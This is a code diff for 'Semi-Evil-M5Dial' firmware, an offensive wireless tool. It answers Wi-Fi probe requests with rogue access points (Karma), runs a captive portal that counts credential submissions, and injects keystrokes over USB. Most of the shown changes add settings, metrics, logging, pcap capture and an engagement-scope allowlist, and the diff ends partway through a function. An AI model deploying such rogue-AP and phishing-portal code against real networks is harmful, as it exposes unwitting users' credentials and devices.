@@ -2,20 +2,40 @@
 #include "M5Dial.h"
 #include <WiFi.h>
 #include <WebServer.h>
-#include <DNSServer.h>
 #include <vector>
+#include <atomic>
+#include <type_traits>
 #include <ArduinoJson.h>
 #include <string>
 #include <esp_wifi.h>
+#include <esp_netif_sta_list.h>
+#include <lwip/sockets.h>
 #include <esp_system.h>
+#include <esp_heap_caps.h>
 #include <Preferences.h>
 #include "FS.h"
 #include "USB.h"
 #include "USBHIDKeyboard.h"
 
+#include "dns_responder.h"
+#include "probe_parser.h"
+#include "route_index.h"
+#include "chunked_writer.h"
+#include "capture_record.h"
+#include "fixed_alloc.h"
+#include "rgb565_image.h"
+#include "channel_hopper.h"
+#include "pcap_buffer.h"
+#include "spsc_queue.h"
+#include "probe_sniffer.h"
+#include "probe_replay.h"
+#include "device_table.h"
+#include "ssid_matcher.h"
+#include "engagement_scope.h"
+#include "log_ring.h"
+
 // Globals
 WebServer server(80);
-DNSServer dnsServer;
 Preferences preferences;
 USBHIDKeyboard Keyboard;
 
@@ -24,34 +44,382 @@ const byte DNS_PORT = 53;
 String ssid = "Semi-Evil-M5Dial";
 const char* password = "";
 
-std::vector<String> ssidList;
-std::vector<std::string> whitelist = {"neighbours-box", "7h30th3r0n3", "Evil-M5Core2"};
+// Karma never answers whitelisted SSIDs. Rules (lib/core/src/ssid_matcher.h)
+// come from /whitelist.txt, one per line; without the file the built-in names
+// below apply. The list is compiled each time Karma starts.
+const char* whitelistPath = "/whitelist.txt";
+const char* const defaultWhitelist[] = {"neighbours-box", "7h30th3r0n3", "Evil-M5Core2"};
+SSIDMatcher whitelist;
+
+// Engagement profile. When /engagement.txt exists Karma runs in allowlist
+// mode: it answers only SSIDs matching a "scope" rule, only inside one of the
+// "window HH:MM-HH:MM" ranges (if any are given), and takes each AP down after
+// "max_dwell <seconds>". Every decision on a new SSID goes to /scope_log.txt.
+// The decision itself is in lib/core/src/engagement_scope.h.
+const char* engagementPath = "/engagement.txt";
+const char* scopeLogPath = "/scope_log.txt";
+EngagementProfile engagement;    // compiled by the net task at Karma start
+
+// Wall clock for windows: the RTC is read on the UI core when Karma starts
+// and advanced with millis(), keeping the I2C bus off the net task
+int32_t engagementClockMinute = -1;
+unsigned long engagementClockMs = 0;
+
+uint32_t scopeVerdictCounts[SCOPE_VERDICT_COUNT] = {};
 
 int currentIndex = 0;
 long oldPosition = -999;
-bool isPortalRunning = false;
+bool isPortalRunning = false;  // owned by the networking task
 unsigned long lastPressTime = 0;
 const int encoderMoveThreshold = 4;
 const unsigned long doublePressThreshold = 500;
 
-int screenBrightness = 128;  // Global brightness
-bool debugMode = true;       // true = Normal (debug) mode, false = HID mode
-bool verboseDebug = false;
-bool pendingReset = false;
-String pendingFile = "";
+// Typed settings backed by the "settings" NVS namespace. Values are loaded
+// once at boot and read from RAM; assigning one only marks it dirty, and the
+// storage service commits dirty settings once nothing has changed for
+// settingsCommitDelay. Code about to reboot or sleep calls commitSettings().
+const unsigned long settingsCommitDelay = 2000;
+
+struct SettingBase {
+    const char* key;
+    bool dirty = false;
+    SettingBase* next;
+    explicit SettingBase(const char* name);
+    virtual void load(Preferences& prefs) = 0;
+    virtual void store(Preferences& prefs) = 0;
+};
+SettingBase* settingsRegistry = nullptr;
+
+struct SettingsStats {
+    uint32_t changes;      // assignments that changed a value
+    uint32_t commits;      // NVS namespace open/close cycles
+    uint32_t nvsWrites;    // individual keys written
+};
+SettingsStats settingsStats = {};
+bool settingsPending = false;
+unsigned long settingsChangedAt = 0;
+
+SettingBase::SettingBase(const char* name) : key(name), next(settingsRegistry) {
+    settingsRegistry = this;
+}
+
+bool anySettingDirty() {
+    for (SettingBase* setting = settingsRegistry; setting; setting = setting->next) {
+        if (setting->dirty) return true;
+    }
+    return false;
+}
+
+void markSettingDirty(SettingBase& setting) {
+    setting.dirty = true;
+    settingsPending = true;
+    settingsChangedAt = millis();
+    settingsStats.changes++;
+}
+
+bool readPreference(Preferences& prefs, const char* key, bool fallback) { return prefs.getBool(key, fallback); }
+int readPreference(Preferences& prefs, const char* key, int fallback) { return prefs.getInt(key, fallback); }
+String readPreference(Preferences& prefs, const char* key, const String& fallback) { return prefs.getString(key, fallback); }
+void writePreference(Preferences& prefs, const char* key, bool value) { prefs.putBool(key, value); }
+void writePreference(Preferences& prefs, const char* key, int value) { prefs.putInt(key, value); }
+void writePreference(Preferences& prefs, const char* key, const String& value) { prefs.putString(key, value); }
+
+template <typename T>
+class Setting : public SettingBase {
+public:
+    Setting(const char* name, T initial) : SettingBase(name), value(initial), fallback(initial) {}
+
+    operator const T&() const { return value; }
+    const T& get() const { return value; }
+
+    Setting& operator=(const T& next) {
+        if (!(value == next)) {
+            value = next;
+            markSettingDirty(*this);
+        }
+        return *this;
+    }
+
+    void load(Preferences& prefs) override { value = readPreference(prefs, key, fallback); }
+    void store(Preferences& prefs) override { writePreference(prefs, key, value); }
+
+    // Sets a value without queueing a write: puts back a change that could
+    // not be committed, or applies a session-only fallback
+    void revert(const T& previous) {
+        value = previous;
+        dirty = false;
+    }
+
+private:
+    T value;
+    T fallback;
+};
+
+Setting<int> screenBrightness("brightness", 128);
+Setting<bool> debugMode("debugMode", true);        // true = Normal (debug) mode, false = HID mode
+Setting<bool> verboseDebug("verboseDebug", false);
+Setting<bool> showSplash("splash", false);
+Setting<String> pendingFile("pendingFile", "");
+Setting<bool> pcapEnabled("pcap", false);
+
+// Metrics registry. Counters, gauges and histograms register themselves at
+// static init and are read by /metrics and the diagnostics screen. Updates
+// are a single relaxed atomic, safe from either core or the Wi-Fi callback.
+
+enum MetricType : uint8_t { METRIC_COUNTER, METRIC_GAUGE, METRIC_HISTOGRAM };
+const char* const metricTypeNames[] = { "counter", "gauge", "histogram" };
+
+struct Metric {
+    const char* name;
+    MetricType type;
+    Metric* next;
+    Metric(const char* metricName, MetricType metricType);
+    virtual void write(ChunkedWriter& out) const = 0;
+};
+Metric* metricsRegistry = nullptr;
+
+Metric::Metric(const char* metricName, MetricType metricType)
+    : name(metricName), type(metricType), next(metricsRegistry) {
+    metricsRegistry = this;
+}
+
+struct Counter : Metric {
+    std::atomic<uint32_t> value{0};
+    explicit Counter(const char* metricName) : Metric(metricName, METRIC_COUNTER) {}
+    void inc(uint32_t n = 1) { value.fetch_add(n, std::memory_order_relaxed); }
+    uint32_t get() const { return value.load(std::memory_order_relaxed); }
+    void write(ChunkedWriter& out) const override;
+};
+
+struct Gauge : Metric {
+    std::atomic<int32_t> value{0};
+    explicit Gauge(const char* metricName) : Metric(metricName, METRIC_GAUGE) {}
+    void set(int32_t v) { value.store(v, std::memory_order_relaxed); }
+    int32_t get() const { return value.load(std::memory_order_relaxed); }
+    void write(ChunkedWriter& out) const override;
+};
+
+// Durations in microseconds; the bucket past the last bound catches the rest
+const int histogramBucketCount = 10;
+const uint32_t histogramBoundsUs[histogramBucketCount] = {
+    100, 250, 500, 1000, 2500, 5000, 10000, 25000, 50000, 100000
+};
+
+struct Histogram : Metric {
+    std::atomic<uint32_t> buckets[histogramBucketCount + 1];
+    std::atomic<uint32_t> count{0};
+    std::atomic<uint32_t> sumUs{0};       // wraps; only its rate is meaningful
+    explicit Histogram(const char* metricName) : Metric(metricName, METRIC_HISTOGRAM) {
+        for (auto& bucket : buckets) bucket.store(0, std::memory_order_relaxed);
+    }
+
+    void observe(uint32_t us) {
+        int bucket = 0;
+        while (bucket < histogramBucketCount && us > histogramBoundsUs[bucket]) bucket++;
+        buckets[bucket].fetch_add(1, std::memory_order_relaxed);
+        count.fetch_add(1, std::memory_order_relaxed);
+        sumUs.fetch_add(us, std::memory_order_relaxed);
+    }
+
+    // Upper bound of the bucket holding the given percentile, 0 when empty
+    uint32_t percentileUs(uint32_t percent) const {
+        uint32_t total = count.load(std::memory_order_relaxed);
+        if (total == 0) return 0;
+        uint32_t target = (total * percent + 99) / 100;
+        uint32_t seen = 0;
+        for (int i = 0; i < histogramBucketCount; i++) {
+            seen += buckets[i].load(std::memory_order_relaxed);
+            if (seen >= target) return histogramBoundsUs[i];
+        }
+        return UINT32_MAX;
+    }
+
+    void write(ChunkedWriter& out) const override;
+};
+
+// Times the enclosing scope into a histogram
+struct ScopedTimer {
+    Histogram& histogram;
+    uint32_t startUs;
+    explicit ScopedTimer(Histogram& target) : histogram(target), startUs(micros()) {}
+    ~ScopedTimer() { histogram.observe(micros() - startUs); }
+};
+
+Counter apDeploysMetric("karma_ap_deploys_total");
+Counter httpRequestsMetric("http_requests_total");
+Histogram httpLatencyMetric("http_request_duration_us");
+Histogram flashWriteMetric("flash_write_duration_us");
+Histogram uiTickMetric("ui_tick_duration_us");
+
+// Trace recorder. A TraceScope records one complete event (start, duration,
+// core) into a fixed ring when it goes out of scope; /trace and the
+// "trace" command dump the ring as Chrome trace-event JSON for Perfetto or
+// chrome://tracing. Scopes are opened with TRACE_SCOPE(), which compiles
+// out entirely when TRACING (a build flag, default 1) is 0; with tracing
+// built in but switched off, a scope is one flag test on entry and a null
+// check on exit.
+#ifndef TRACING
+#define TRACING 1
+#endif
+
+enum TraceCategory : uint8_t { TRACE_LOOP, TRACE_SERVICE, TRACE_SCREEN, TRACE_RENDER, TRACE_HTTP, TRACE_NET, TRACE_STORAGE };
+const char* const traceCategoryNames[] = { "loop", "service", "screen", "render", "http", "net", "storage" };
+
+struct TraceEvent {
+    const char* name;                     // static string; nullptr until first written
+    uint32_t startUs;
+    uint32_t durationUs;
+    uint8_t core;
+    TraceCategory category;
+};
+
+const uint32_t traceEventCount = 512;     // 8 KB
+TraceEvent traceEvents[traceEventCount];
+std::atomic<uint32_t> traceHead{0};       // total events recorded; the ring keeps the last traceEventCount
+// traceHead when recording was last enabled. Only the head moves, so a
+// traceRecord() in flight on the other core never races a reset.
+std::atomic<uint32_t> traceStart{0};
+volatile bool tracingEnabled = false;
+
+inline void traceRecord(const char* name, TraceCategory category, uint32_t startUs, uint32_t durationUs) {
+    TraceEvent& event = traceEvents[traceHead.fetch_add(1, std::memory_order_relaxed) % traceEventCount];
+    event.name = name;
+    event.startUs = startUs;
+    event.durationUs = durationUs;
+    event.core = xPortGetCoreID();
+    event.category = category;
+}
+
+struct TraceScope {
+    const char* name;
+    TraceCategory category;
+    uint32_t startUs;
+    TraceScope(const char* eventName, TraceCategory eventCategory)
+        : name(tracingEnabled ? eventName : nullptr), category(eventCategory), startUs(name ? micros() : 0) {}
+    ~TraceScope() {
+        if (name) traceRecord(name, category, startUs, micros() - startUs);
+    }
+};
+
+#if TRACING
+#define TRACE_SCOPE(name, category) TraceScope trace(name, category)
+#else
+#define TRACE_SCOPE(name, category) do {} while (0)
+#endif
+
+// Logging. Levels above LOG_LEVEL (a build flag, default debug) compile out
+// with their arguments; the rest are filtered at runtime: errors always,
+// warnings and info in Normal mode, debug only with Verbose Debug on. The
+// caller formats into a fixed slot of a lock-free ring and returns; the log
+// task writes slots to Serial and, with "Log to File" on, to /debug.log.
+// Messages that don't fit are dropped and counted. The log task is the only
+// writer to Serial: longer output (the trace, the service report, the boot
+// timeline, a script file) is requested with requestSerialDump() and written
+// between drains.
+#define LOG_LEVEL_NONE  0
+#define LOG_LEVEL_ERROR 1
+#define LOG_LEVEL_WARN  2
+#define LOG_LEVEL_INFO  3
+#define LOG_LEVEL_DEBUG 4
+#ifndef LOG_LEVEL
+#define LOG_LEVEL LOG_LEVEL_DEBUG
+#endif
+
+const int logSlotCount = 32;
+const BaseType_t logTaskCore = 1;
+const size_t logLineSize = 96;
+const uint32_t logTaskStackSize = 4096;
+const UBaseType_t logTaskPriority = 1;
+const unsigned long logFlushInterval = 20;
+const size_t logFileLimit = 64 * 1024;    // rotated to /debug.1.log past this
+const char* logFilePath = "/debug.log";
+const char* logPreviousFilePath = "/debug.1.log";
+
+// Multi-producer slot ring (lib/core/src/log_ring.h); only the log task reads it
+LogRing<logSlotCount, logLineSize> logRing;
+TaskHandle_t logTaskHandle = nullptr;
+Setting<bool> logToFile("logFile", false);
+Counter logDroppedMetric("log_dropped_total");
+Counter logBytesMetric("log_bytes_total");
+
+enum SerialDump : uint32_t {
+    SERIAL_DUMP_TRACE          = 1 << 0,
+    SERIAL_DUMP_SERVICE_REPORT = 1 << 1,
+    SERIAL_DUMP_BOOT_TIMELINE  = 1 << 2,
+    SERIAL_DUMP_FILE           = 1 << 3,
+};
+std::atomic<uint32_t> serialDumpRequests{0};   // SerialDump bits, taken by the log task
+char serialDumpPath[64];                        // for SERIAL_DUMP_FILE, set while the bit is clear
+
+void logWrite(uint8_t level, const char* format, ...) __attribute__((format(printf, 2, 3)));
+
+#if LOG_LEVEL >= LOG_LEVEL_ERROR
+#define LOG_E(...) logWrite(LOG_LEVEL_ERROR, __VA_ARGS__)
+#else
+#define LOG_E(...) do {} while (0)
+#endif
+#if LOG_LEVEL >= LOG_LEVEL_WARN
+#define LOG_W(...) do { if (debugMode) logWrite(LOG_LEVEL_WARN, __VA_ARGS__); } while (0)
+#else
+#define LOG_W(...) do {} while (0)
+#endif
+#if LOG_LEVEL >= LOG_LEVEL_INFO
+#define LOG_I(...) do { if (debugMode) logWrite(LOG_LEVEL_INFO, __VA_ARGS__); } while (0)
+#else
+#define LOG_I(...) do {} while (0)
+#endif
+#if LOG_LEVEL >= LOG_LEVEL_DEBUG
+#define LOG_D(...) do { if (debugMode && verboseDebug) logWrite(LOG_LEVEL_DEBUG, __VA_ARGS__); } while (0)
+#else
+#define LOG_D(...) do {} while (0)
+#endif
 
 // For Karma Attack
 bool isKarmaRunning = false;
 bool isAutoKarmaActive = false;
-bool newSSIDAvailable = false;
-bool isAPDeploying = false;
-char lastSSID[33] = {0};
+volatile bool isAPDeploying = false;
 char lastDeployedSSID[33] = {0};
 unsigned long lastProbeDisplayUpdate = 0;
 int probeDisplayState = 0;
 const int autoKarmaAPDuration = 20000;
 const int maxSSIDs = 100;
 
+// Saved SSIDs, oldest first (lib/core/src/fixed_alloc.h)
+SSIDPool<maxSSIDs> ssidList;
+
+BumpArena<1024> frameArena;    // UI service pass, reset after every tick/render
+BumpArena<512> requestArena;   // HTTP request, reset after every dispatch
+
+// Asset cache. Portal files are read into RAM when the portal starts and then
+// served with a single send instead of SPIFFS exists/open/stream per request.
+// The budget is large when PSRAM is fitted and capped on internal heap, and
+// the least recently served entry is evicted when a new file does not fit.
+const size_t assetCacheBudgetInternal = 48 * 1024;
+const size_t assetCacheBudgetPsram = 1024 * 1024;
+const int maxCachedAssets = 8;
+
+struct CachedAsset {
+    char path[32];
+    uint8_t* data;
+    size_t size;
+    const char* contentType;
+    uint32_t lastUsed;
+};
+CachedAsset assetCache[maxCachedAssets];
+size_t assetCacheBytes = 0;
+uint32_t assetCacheClock = 0;
+
+struct AssetCacheStats {
+    uint32_t hits;
+    uint32_t misses;
+    uint32_t evictions;
+    uint32_t bytesFromCache;
+    uint32_t bytesFromFlash;
+    uint64_t cacheResponseUs;   // summed handler time, for the averages
+    uint64_t flashResponseUs;
+};
+AssetCacheStats assetCacheStats = {};
+
 // Menu items
 const char* menuItems[] = {
     "Start Portal",
@@ -64,7 +432,7 @@ const char* menuItems[] = {
 const int menuItemsCount = sizeof(menuItems) / sizeof(menuItems[0]);
 
 // Settings menu items (dynamic)
-int settingsItemsCount = 5; 
+int settingsItemsCount = 9;
 
 // Script-related globals
 std::vector<String> scriptFileNames;
@@ -80,9 +448,335 @@ enum ScreenState {
     KARMA_SCREEN,
     EXECUTE_SCRIPT_SCREEN,
     ABOUT_SCREEN,
-    SETTINGS_SCREEN
+    SETTINGS_SCREEN,
+    SSID_SELECT_SCREEN,
+    DIAGNOSTICS_SCREEN,
+    SPLASH_SCREEN,
+    SCREEN_COUNT
 };
 ScreenState currentScreen = MENU_SCREEN;
+bool screenNeedsRender = false;
+
+// Screen framework. tick() runs every UI service pass and must never block;
+// render() does a full redraw and only runs after requestRender().
+struct Screen {
+    const char* name;
+    void (*enter)();
+    void (*tick)(long encoderPosition);
+    void (*render)();
+    void (*exit)();
+};
+
+// Cooperative scheduler. Each service runs at most once per period and gets a
+// time budget; run() returns true if it did work so the loop skips sleeping.
+const int serviceHistogramBuckets = 8;
+const char* const serviceHistogramLabels[serviceHistogramBuckets] = {
+    "<64us", "<256us", "<1ms", "<4ms", "<16ms", "<64ms", "<256ms", ">=256ms"
+};
+const uint32_t maxIdleSleepMs = 20;
+const unsigned long serviceReportInterval = 30000;
+
+struct Service {
+    const char* name;
+    uint32_t periodMs;
+    uint32_t budgetUs;
+    bool (*enabled)();
+    bool (*run)(uint32_t deadlineUs);
+    unsigned long nextRunMs;
+    uint32_t runs;
+    uint32_t overruns;
+    uint32_t maxUs;
+    uint32_t histogram[serviceHistogramBuckets];
+    // Global free heap across this service's runs, sampled only with Verbose
+    // Debug on. Both cores allocate concurrently, so these include the other
+    // core's activity and are a hint, not per-service accounting.
+    int32_t globalHeapDelta;     // bytes, positive when free heap shrank
+    uint32_t globalHeapDrops;    // runs that ended with less free heap
+};
+unsigned long lastServiceReport = 0;
+
+// Heap instrumentation. The heap service samples every heapSampleInterval
+// into a rolling history; alarms latch when free heap or the largest free
+// block drop under their watermark and clear once they recover by half again.
+const int heapHistorySize = 60;
+const unsigned long heapSampleInterval = 5000;
+const uint32_t heapFreeWatermark = 24 * 1024;
+const uint32_t heapBlockWatermark = 8 * 1024;
+
+struct HeapSample {
+    uint32_t freeHeap;
+    uint32_t largestBlock;
+    uint32_t allocatedBlocks;
+    uint32_t freePsram;
+};
+HeapSample heapHistory[heapHistorySize];
+uint32_t heapSampleCount = 0;            // total samples taken; newest is count - 1
+uint32_t heapMinLargestBlock = UINT32_MAX;
+bool heapFreeAlarm = false;
+bool heapBlockAlarm = false;
+uint32_t heapAlarmCount = 0;
+uint32_t diagnosticsShownSample = 0;
+
+// Diagnostics screen: the encoder flips between the heap page and an
+// activity page whose rates are recomputed once a second
+int diagnosticsPage = 0;
+long diagnosticsOldPosition = -999;
+unsigned long diagnosticsRateAt = 0;
+uint32_t diagnosticsProbeTotal = 0;
+uint32_t diagnosticsHttpTotal = 0;
+uint32_t probesPerSecond = 0;
+uint32_t httpPerSecond = 0;
+
+// BadUSB keystroke runner, stepped by the HID service instead of blocking
+struct KeystrokeRunner {
+    File file;
+    bool active;
+    bool started;
+    bool clearPendingFile;
+    unsigned long resumeAt;
+    String text;
+    int textPos;
+};
+KeystrokeRunner keystrokes;
+
+// SSID list is written back to flash by the storage service
+bool ssidListDirty = false;
+
+// Karma state driven from the KARMA_SCREEN tick
+char pendingKarmaSSID[33] = {0};
+bool karmaProbePending = false;
+// Probes arriving within karmaPickWindow compete for the next AP; the SSID
+// asked for by the most distinct devices wins
+const unsigned long karmaPickWindow = 300;
+uint16_t pendingKarmaDevices = 0;
+unsigned long karmaPendingSince = 0;
+unsigned long karmaAPStartTime = 0;
+int karmaAPLastSecond = -1;
+
+// SSID selection screen state
+int ssidIndex = 0;
+long ssidOldPosition = -999;
+
+// Settings screen state
+int settingsIndex = 0;
+long settingsOldPosition = -999;
+bool adjustingBrightness = false;
+
+// Script screen: when set, the selection message stays up until this time
+unsigned long scriptMessageUntil = 0;
+
+// Boot sequencer. setup() only does what the first frame needs; the boot
+// service loads the SSID files afterwards, one stage per UI pass, and
+// anything that needs them first calls ensureBootLoaded().
+enum BootStage {
+    BOOT_LOAD_SELECTED_SSID,
+    BOOT_LOAD_SSID_LIST,
+    BOOT_DONE
+};
+BootStage bootStage = BOOT_LOAD_SELECTED_SSID;
+
+const int maxBootMarks = 16;
+struct BootMark {
+    const char* name;
+    uint32_t us;
+};
+BootMark bootTimeline[maxBootMarks];
+int bootMarkCount = 0;
+
+const unsigned long splashDurationMs = 3000;
+const char* splashImagePath = "/logo.565";
+const char* splashBitmapPath = "/logo.bmp";
+unsigned long splashStartedAt = 0;
+long splashStartPosition = 0;
+
+// Dual-core split. The networking task on core 0 owns the web server, DNS,
+// soft-AP control and probe processing; the Arduino loop on core 1 owns the
+// display, encoder and HID. They only talk through the SPSC queues below
+// (lib/core/src/spsc_queue.h) and the netStatus snapshot.
+const BaseType_t netTaskCore = 0;
+const uint32_t netTaskStackSize = 8192;
+const UBaseType_t netTaskPriority = 2;
+const unsigned long netStatusInterval = 250;
+TaskHandle_t netTaskHandle = nullptr;
+
+enum NetMessageType : uint8_t {
+    // UI -> net
+    NET_CMD_START_PORTAL,
+    NET_CMD_STOP_PORTAL,
+    NET_CMD_START_KARMA,
+    NET_CMD_STOP_KARMA,
+    NET_CMD_DEPLOY_AP,
+    NET_CMD_STOP_AP,
+    // net -> UI
+    NET_EVENT_PORTAL_STARTED,
+    NET_EVENT_PORTAL_FAILED,
+    NET_EVENT_KARMA_FAILED,
+    NET_EVENT_AP_FAILED,
+    NET_EVENT_PROBE
+};
+
+struct NetMessage {
+    NetMessageType type;
+    char ssid[33];
+    uint16_t devices;     // NET_EVENT_PROBE: distinct devices that probed ssid
+};
+
+SpscQueue<NetMessage, 16> netCommandQueue;   // UI -> net
+SpscQueue<NetMessage, 32> netEventQueue;     // net -> UI
+SpscQueue<ProbeRecord, 64> probeQueue;       // Wi-Fi RX callback -> net
+
+SpscQueue<ScopeDecision, 32> scopeLogQueue;   // net -> storage service
+
+// Read-mostly status published by the networking task. Readers never block:
+// the sequence number is odd while a write is in progress and readers retry.
+struct NetStatus {
+    bool portalRunning;
+    bool apUp;
+    bool karmaActive;
+    int clientCount;
+    uint32_t ip;
+    char currentSSID[33];
+    uint32_t probesSeen;
+    uint32_t probesDropped;
+    uint32_t stationsVersion;
+    uint8_t channel;          // current sniffer channel, 0 when not hopping
+};
+NetStatus netStatus = {};               // owned by the networking task
+NetStatus netStatusShared = {};
+std::atomic<uint32_t> netStatusSeq{0};
+unsigned long lastNetStatusPublish = 0;
+
+// Probe intake (lib/core/src/probe_sniffer.h), run by the Wi-Fi driver
+// task's RX callback or by a replay standing in for it
+ProbeSniffer sniffer;
+
+// Devices heard probing during the current Karma run (lib/core/src/device_table.h),
+// owned by the net task
+const int maxDevices = 128;
+DeviceTable<maxDevices> deviceTable;
+
+// Probe replay. POST /command/replay arms the next Karma run to read
+// /replay.pcap from SPIFFS instead of the radio, pushing each frame through
+// autoKarmaPacketSniffer() at the recorded pace divided by speed (0 = as fast
+// as the service budget allows). The run's report is written to
+// /replay_report.json with a summary in the log, so Karma changes can be
+// compared against the same trace; src/host replays a trace on a computer
+// and prints the same report.
+const char* replayPath = "/replay.pcap";
+const char* replayReportPath = "/replay_report.json";
+
+struct ReplayRun {
+    bool armed;
+    bool active;
+    uint32_t speed;                  // for the armed run
+    File file;
+    unsigned long startMs;
+    ProbeReplay state;               // lib/core/src/probe_replay.h
+};
+ReplayRun replay = {};
+alignas(4) uint8_t replayPacket[sizeof(wifi_promiscuous_pkt_t) + maxReplayRecord];
+
+// Optional pcap log of probe requests heard while Karma sniffs, through the
+// double buffer in lib/core/src/pcap_buffer.h. The pcap service drains it
+// every pcapDrainInterval while recording; files rotate at pcapMaxFileSize,
+// keeping one previous file.
+const char* pcapPath = "/probes.pcap";
+const char* pcapPreviousPath = "/probes.1.pcap";
+const size_t pcapMaxFileSize = 256 * 1024;
+const unsigned long pcapFlushInterval = 2000;
+const uint32_t pcapDrainInterval = 20;
+
+PcapDoubleBuffer pcapBuffer;
+std::atomic<bool> pcapRecording{false};
+std::atomic<bool> pcapStopRequested{false};  // set by the net task once the sniffer is off
+File pcapFile;
+unsigned long pcapLastFlush = 0;
+
+// Channel hopping for Karma (lib/core/src/channel_hopper.h), driven by the
+// hop service on the net task. Hopping stops while an AP is deployed, since
+// the AP pins the radio to its own channel.
+ChannelHopper hopper = {};
+uint8_t lastProbeChannel = 0;
+
+// Station table, fed by Wi-Fi AP events and owned by the networking task. It
+// is cleared whenever an AP comes up, so it describes the current AP session.
+const int maxStations = 8;
+struct Station {
+    bool inUse;
+    bool connected;
+    uint8_t mac[6];
+    uint32_t ip;
+    unsigned long associatedAt;
+    unsigned long lastActivity;
+    uint32_t bytesServed;
+    bool captureSubmitted;
+    unsigned long firstPageAt;
+    char portalPage[24];     // last HTML template served to this station
+};
+Station stations[maxStations];
+
+// Per-connection context map for the AP session. The AP hands out a /24, so
+// the last octet of a client IP indexes its station slot directly.
+int8_t stationByHost[256];
+
+// Per-SSID funnel: probes heard, stations that associated to our AP while it
+// carried the SSID, and portal submissions made under it. Owned by the net
+// task; the least recently active entry is recycled when the table is full.
+const int maxSSIDStats = 16;
+struct SSIDStats {
+    char ssid[33];
+    uint32_t probes;
+    uint32_t associations;
+    uint32_t submissions;
+    unsigned long lastSeen;
+};
+SSIDStats ssidStats[maxSSIDStats];
+
+enum StationEventType : uint8_t {
+    STATION_CONNECTED,
+    STATION_DISCONNECTED,
+    STATION_IP_ASSIGNED
+};
+
+struct StationEvent {
+    StationEventType type;
+    uint8_t mac[6];
+    unsigned long time;
+};
+
+SpscQueue<StationEvent, 16> stationEventQueue;  // Wi-Fi event task -> net
+
+// Portal screen: client count currently on the display
+int portalShownClients = -1;
+
+// Connectivity-check URLs of the major OSes. Any answer other than the one the
+// OS expects makes it show the sign-in prompt, so each probe gets a constant
+// redirect to the portal without touching the filesystem.
+struct CaptiveProbe {
+    const char* path;
+    const char* source;
+    uint32_t hits;
+};
+CaptiveProbe captiveProbes[] = {
+    { "/generate_204",              "Android/ChromeOS", 0 },
+    { "/gen_204",                   "Android",          0 },
+    { "/hotspot-detect.html",       "Apple",            0 },
+    { "/library/test/success.html", "Apple",            0 },
+    { "/connecttest.txt",           "Windows",          0 },
+    { "/ncsi.txt",                  "Windows",          0 },
+    { "/redirect",                  "Windows",          0 },
+    { "/success.txt",               "Firefox",          0 },
+    { "/canonical.html",            "Firefox",          0 },
+    { "/check_network_status.txt",  "KDE",              0 },
+};
+const int captiveProbeCount = sizeof(captiveProbes) / sizeof(captiveProbes[0]);
+const char captiveProbeBody[] = "<html><body><a href=\"/\">Sign in</a></body></html>";
+char portalLocation[32] = "http://192.168.4.1/";
+
+// DNS responder (lib/core/src/dns_responder.h) on its own UDP socket
+int dnsSocket = -1;
+uint8_t dnsBuffer[dnsMaxPacket];
+DnsResponder dnsResponder = {};
 
 enum DisplayState {
     DISPLAY_NONE,
@@ -96,13 +790,37 @@ void drawMenu(int index);
 void returnToMainMenu();
 void stopAutoKarma();
 void autoKarmaPacketSniffer(void* buf, wifi_promiscuous_pkt_type_t type);
-void displayAPStatus(const char* ssid, unsigned long startTime, int autoKarmaAPDuration);
-void readFileToSerial(fs::FS &fs, const char *path);
-void executeKeystrokes(const char *filename);
+void displayAPStatus(unsigned long startTime, int autoKarmaAPDuration);
+void writeFileToSerial(const char* path);
+void executeKeystrokes(const char *filename, unsigned long startDelay = 0);
 void startCaptivePortal();
 void handlePortalScreen();
 void setupWebServerRoutes();
 void handleFormSubmit();
+void handleUploadPage();
+void handleUploadDone();
+void handleUploadData();
+void handleLogs();
+void handleFileList();
+void handleStations();
+void handleDeleteFile();
+void handleCommand();
+void handleCaptures();
+void handlePcap();
+void pcapAppend(const wifi_promiscuous_pkt_t* packet, size_t length);
+void startPcapRecording();
+void stopPcapRecording();
+bool pcapFlush();
+uint32_t replayElapsedMs();
+void handleDevices();
+void loadWhitelist();
+void loadEngagementProfile();
+void captureEngagementClock();
+ScopeVerdict decideScope(const char* ssid);
+bool writeScopeLog();
+unsigned long karmaAPDuration();
+void handleSSIDStats();
+SSIDStats* findSSIDStats(const char* ssid);
 void logData(String data);
 void selectSSID();
 void startAutoKarma();
@@ -125,65 +843,153 @@ void centerText(const String &text, int16_t yOffset = 0);
 void displayAboutScreen();
 void adjustBrightness(long newPosition, long &brightnessOldPosition);
 void toggleMode();
+void loadSettings();
+void commitSettings();
+void switchScreen(ScreenState next);
+void requestRender();
+void bootMark(const char* name);
+void ensureBootLoaded();
+void enterSplashScreen();
+void splashTick(long newPosition);
+void drawSplashScreen();
+bool drawRgb565File(const char* path);
+void handleBootTimeline();
+void handleTrace();
+void writeTraceToSerial();
+void requestSerialDump(uint32_t dump);
+void requestFileDump(const char* path);
+void displayDiagnosticsScreen();
+void displayActivityDiagnostics();
+void handleMetrics();
+uint32_t runServices(Service* list, int count);
+void printServiceReport(const Service* list, int count);
+void writeSSIDList();
+void startNetTask();
+void startLogTask();
+void postNetCommand(NetMessageType type, const char* ssid = nullptr);
+void postNetEvent(NetMessageType type, const char* ssid = nullptr);
+void handleNetEvents();
+void publishNetStatus();
+NetStatus readNetStatus();
+void netStartCaptivePortal();
+void netStopCaptivePortal();
+void netStartKarma();
+void netStopKarma();
+void netDeployAP(const char* ssid);
+void netStopAP();
+void onStationEvent(arduino_event_id_t event, arduino_event_info_t info);
+void resetStations();
+void drawPortalClients(int clientCount);
+Station* findStationByIP(uint32_t ip);
+void noteStationActivity(size_t bytesServed, bool captureSubmitted = false);
+void notePortalPageServed(const char* page);
+void handleCaptiveProbe(CaptiveProbe& probe);
+size_t assetCacheBudget();
+void assetCacheWarm();
+void assetCacheClear();
+void assetCacheInvalidate(const char* path);
+bool dnsStart(const IPAddress& ip);
+void dnsStop();
+int dnsProcessPending(uint32_t deadlineUs);
+void stopCaptivePortal();
+void stopKarmaAP();
+void drawPortalScreen();
+void drawScriptScreen();
+void enterSSIDSelectScreen();
+void handleSSIDSelectScreen(long newPosition);
+void drawSSIDSelectScreen();
+bool runKeystrokes(uint32_t deadlineUs);
 
 // Toggle Debug/HID Mode
 void toggleMode() {
-    debugMode = !debugMode;
-    if (!preferences.begin("settings", false)) {
-        Serial.println("Failed to initialize Preferences!");
+    bool previousMode = debugMode;
+    debugMode = !previousMode;
+    commitSettings();
+    if (settingsPending) {
+        // The reboot below would come back in the old mode, so stay in it
+        // rather than run the rest of this boot in a mode that isn't saved
+        debugMode.revert(previousMode);
